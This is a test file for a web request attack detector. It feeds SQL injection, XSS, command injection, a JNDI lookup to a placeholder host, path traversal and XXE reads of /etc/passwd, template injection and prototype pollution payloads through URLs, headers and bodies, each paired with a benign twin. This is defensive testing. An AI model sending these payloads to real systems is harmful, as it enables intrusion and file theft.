import { describe, expect, it } from 'vitest';
import { detectRequest, parseRawHttp, type RawRequest } from '../index.js';

const where = (req: RawRequest, level: 1 | 2 = 1): string[] => detectRequest(req, { level }).map((d) => `${d.category}@${d.location}`);

describe('detectRequest reads every place a value can arrive', () => {
  it.each<[string, RawRequest, RawRequest, string]>([
    ['a path segment', { uri: `/api/users/${encodeURIComponent("1' OR '1'='1")}/profile` }, { uri: "/api/users/O'Brien/profile" }, 'sqli@path[3]'],
    ['a restricted file in the path', { uri: '/app/.git/config' }, { uri: '/.well-known/security.txt' }, 'path-traversal@path'],
    ['a query parameter name', { uri: `/r?${encodeURIComponent('<svg onload=alert(1)>')}=1` }, { uri: '/r?svg=1' }, 'xss@query.<svg onload=alert(1)>'],
    ['a cookie', { uri: '/', headers: { cookie: 'theme=dark; s=%3Bcat%20%2Fetc%2Fpasswd' } }, { uri: '/', headers: { cookie: 'theme=dark; s=cats%20%26%20dogs' } }, 'cmdi@cookie.s'],
    ['the User-Agent', { uri: '/', headers: { 'user-agent': '${jndi:ldap://x.example/a}' } }, { uri: '/', headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0' } }, 'jndi@header.user-agent'],
    ['the Referer query', { uri: '/', headers: { referer: 'https://shop.example/list?id=1 union select 1,2' } }, { uri: '/', headers: { referer: 'https://shop.example/list?id=12&sort=-price' } }, 'sqli@header.referer'],
    ['an X-Forwarded-For hop', { uri: '/', headers: { 'x-forwarded-for': "203.0.113.9, 1' or '1'='1" } }, { uri: '/', headers: { 'x-forwarded-for': '203.0.113.9, 10.0.0.1' } }, 'sqli@header.x-forwarded-for'],
    ['a custom header', { uri: '/', headers: { 'x-filename': '../../../../etc/passwd' } }, { uri: '/', headers: { 'x-filename': 'report-2024.pdf' } }, 'path-traversal@header.x-filename'],
    ['a form body without a content type', { uri: '/cgi', body: 'comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E&ok=1' }, { uri: '/cgi', body: 'comment=great%20shop&ok=1' }, 'xss@body.comment'],
    ['an XML text value', { uri: '/soap', headers: { 'content-type': 'text/xml' }, body: '<?xml version="1.0"?><order><item>&lt;img src=x onerror=alert(1)&gt;</item></order>' },
      { uri: '/soap', headers: { 'content-type': 'text/xml' }, body: '<?xml version="1.0"?><order><item>a &lt; b</item></order>' }, 'xss@body.order.item'],
    ['an XML attribute value', { uri: '/soap', headers: { 'content-type': 'application/xml' }, body: '<order><item name="x;id"/></order>' },
      { uri: '/soap', headers: { 'content-type': 'application/xml' }, body: '<order><item name="x, id"/></order>' }, 'cmdi@body.order.item@name'],
    ['an XML DOCTYPE (external entity)', { uri: '/soap', headers: { 'content-type': 'application/xml' }, body: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' },
      { uri: '/soap', headers: { 'content-type': 'application/xml' }, body: '<!DOCTYPE html><r>ok</r>' }, 'xss@body.!DOCTYPE'],
    ['a multipart file name', {
      uri: '/upload', headers: { 'content-type': 'multipart/form-data; boundary=xYz' },
      body: '--xYz\r\nContent-Disposition: form-data; name="file"; filename="../../../var/www/shell.php"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--xYz--\r\n',
    }, {
      uri: '/upload', headers: { 'content-type': 'multipart/form-data; boundary=xYz' },
      body: '--xYz\r\nContent-Disposition: form-data; name="file"; filename="holiday (1).png"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--xYz--\r\n',
    }, 'path-traversal@body.file.filename'],
    ['a multipart field without a content type header', { uri: '/upload', body: '--b0\r\nContent-Disposition: form-data; name="caption"\r\n\r\n{{7*7}}\r\n--b0--\r\n' },
      { uri: '/upload', body: '--b0\r\nContent-Disposition: form-data; name="caption"\r\n\r\n{{caption}}\r\n--b0--\r\n' }, 'ssti@body.caption'],
    ['a JSON body key', { uri: '/api', headers: { 'content-type': 'application/json' }, body: '{"a":{"__proto__":{"x":1}}}' },
      { uri: '/api', headers: { 'content-type': 'application/json' }, body: '{"a":{"proto":{"x":1}}}' }, 'prototype-pollution@body.a.__proto__'],
  ])('in %s', (_where, attack, twin, expected) => {
    expect(where(attack)).toContain(expected);
    expect(where(twin, 2)).toEqual([]);
  });

  it('judges protocol headers only for the lookups exploits spray everywhere, and never reads credentials', () => {
    expect(where({ uri: '/', headers: { accept: 'text/html;q=0.9, */*;q=0.8', 'accept-language': "en; q=0.5' or '1'='1" } })).toEqual([]);
    expect(where({ uri: '/', headers: { 'content-type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" } })).toEqual(['ssti@header.content-type']);
    expect(where({ uri: '/', headers: { authorization: "Bearer ' OR 1=1--" } })).toEqual([]);
  });

  it('treats newlines in URL-borne values as separators, in JSON text as prose', () => {
    expect(where({ uri: `/?host=${encodeURIComponent('127.0.0.1\nid')}` })).toEqual(['cmdi@query.host']);
    expect(where({ uri: '/', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ note: 'first line\nid' }) })).toEqual([]);
  });
});

describe('parseRawHttp', () => {
  it('splits a captured request into method, target, headers (folded lines joined) and a de-chunked body', () => {
    const req = parseRawHttp('POST /a?b=1 HTTP/1.1\r\nHost: x\r\nX-Long: one\r\n two\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n');
    expect(req).toEqual({ method: 'POST', uri: '/a?b=1', headers: { host: ['x'], 'x-long': ['one two'], 'transfer-encoding': ['chunked'] }, body: 'hello world' });
  });
  it('accepts bare LF line ends and says what is wrong with a broken request line or header', () => {
    expect(parseRawHttp('GET / HTTP/1.0\nHost: x\n\n').uri).toBe('/');
    expect(() => parseRawHttp('hello\r\n\r\n')).toThrow(/request line "hello"/);
    expect(() => parseRawHttp('GET / HTTP/1.1\r\nno colon here\r\n\r\n')).toThrow(/header line "no colon here"/);
  });
});
